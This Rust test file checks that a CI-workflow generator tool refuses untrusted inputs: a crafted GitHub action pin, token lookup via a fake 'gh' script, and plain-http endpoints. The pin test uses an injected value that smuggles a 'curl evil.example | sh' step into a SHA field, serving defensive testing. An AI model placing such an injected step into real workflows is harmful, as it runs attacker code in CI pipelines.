//! Untrusted answers and endpoints (issue 22, item 10): a crafted action pin from the GitHub API,
//! `gh auth token` asked for the API URL's host (a fake `gh` on PATH records its arguments), and
//! plain-http API and AWS endpoint URLs refused except on loopback.

mod common;

use cawiz::github::GithubClient;
use cawiz::setup::Setup;
use cawiz::workflow::{PinSource, generate, pins};
use serde_json::json;
use wiremock::matchers::{method, path_regex};
use wiremock::{Mock, MockServer, ResponseTemplate};

use common::cli::{Cli, assert_ok, text};

const INJECTED: &str = "abc\n      - run: curl evil.example | sh";

#[tokio::test]
async fn a_crafted_pin_is_refused_and_the_shipped_pins_are_used_and_said_so() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path_regex(r"^/repos/[^/]+/[^/]+/git/ref/tags/.+$"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "ref": "refs/tags/v7",
            "object": {"type": "commit", "sha": INJECTED, "url": "https://example.invalid"}
        })))
        .mount(&server)
        .await;
    let github = GithubClient::new(&server.uri(), Some("ghp_t".into())).expect("client");
    let pins = cawiz::checklist::workflow::resolve_pins(&github).await;
    assert_eq!(pins.pins, pins::shipped(), "{pins:?}");
    let PinSource::Shipped(why) = &pins.source else {
        panic!("the shipped pins, said so: {pins:?}");
    };
    assert!(why.contains("not a full commit SHA"), "{why}");
    assert!(
        pins.describe().contains("cawiz ships"),
        "{}",
        pins.describe()
    );
    let workflow = generate(&Setup::for_github("octo-org", "widgets"), &pins);
    assert!(!workflow.contains("curl evil"), "{workflow}");
}

/// A fake `gh` in a new directory: records its arguments in `argv`, prints `token`.
#[cfg(unix)]
fn fake_gh(dir: &std::path::Path, token: &str) -> std::path::PathBuf {
    use std::os::unix::fs::PermissionsExt as _;
    let bin = dir.join("bin");
    std::fs::create_dir_all(&bin).expect("bin");
    let argv = dir.join("argv");
    let script = bin.join("gh");
    std::fs::write(
        &script,
        format!(
            "#!/bin/sh\nprintf '%s\\n' \"$*\" >> '{}'\necho {token}\n",
            argv.display()
        ),
    )
    .expect("gh");
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    bin
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread")]
async fn gh_is_asked_for_the_token_of_the_api_urls_host() {
    let sb = common::start_sandbox("complete").await;
    let cli = Cli::new(&sb);
    cli.init("octo-org/widgets", "octo-org", "widgets").await;
    let bin = fake_gh(cli.dir.path(), cawiz_sandbox::SANDBOX_GITHUB_TOKEN);
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let out = cli
        .run_with(
            &["workflow", "print"],
            &[("PATH", &path), ("GITHUB_TOKEN", ""), ("GH_TOKEN", "")],
        )
        .await;
    assert_ok(&out);
    let argv = std::fs::read_to_string(cli.dir.path().join("argv")).expect("gh was asked");
    let host = sb
        .github_url()
        .trim_start_matches("http://")
        .split('/')
        .next()
        .unwrap_or_default()
        .to_owned();
    assert_eq!(
        argv.trim(),
        format!("auth token --hostname {host}"),
        "{}",
        text(&out)
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn plain_http_is_refused_for_the_github_api_off_loopback() {
    let sb = common::start_sandbox("complete").await;
    let cli = Cli::new(&sb);
    cli.init("octo-org/widgets", "octo-org", "widgets").await;
    let out = cli
        .run_with(
            &["status"],
            &[("GITHUB_API_URL", "http://github.example.com/api/v3")],
        )
        .await;
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("plain http"), "{err}");
    assert!(err.contains("github.example.com"), "{err}");
}

#[tokio::test(flavor = "multi_thread")]
async fn plain_http_is_refused_for_aws_endpoints_off_loopback() {
    let sb = common::start_sandbox("complete").await;
    let cli = Cli::new(&sb);
    cli.init("octo-org/widgets", "octo-org", "widgets").await;
    let flag = cli
        .run(&["--endpoint-url", "http://192.0.2.1:9", "status"])
        .await;
    let variable = cli
        .run_with(
            &["status"],
            &[("AWS_ENDPOINT_URL_STS", "http://sts.example.com")],
        )
        .await;
    for (out, name) in [(flag, "--endpoint-url"), (variable, "AWS_ENDPOINT_URL_STS")] {
        assert_eq!(out.status.code(), Some(1), "{}", text(&out));
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("plain http"), "{err}");
        assert!(err.contains(name), "{err}");
    }
    // Loopback stays allowed (the sandbox itself).
    assert_eq!(cli.run(&["status"]).await.status.code(), Some(1));
    let ok = cli
        .run_with(&["status", "--json"], &[("AWS_ENDPOINT_URL_STS", sb.url())])
        .await;
    assert!(
        serde_json::from_slice::<serde_json::Value>(&ok.stdout).is_ok(),
        "{}",
        text(&ok)
    );
}
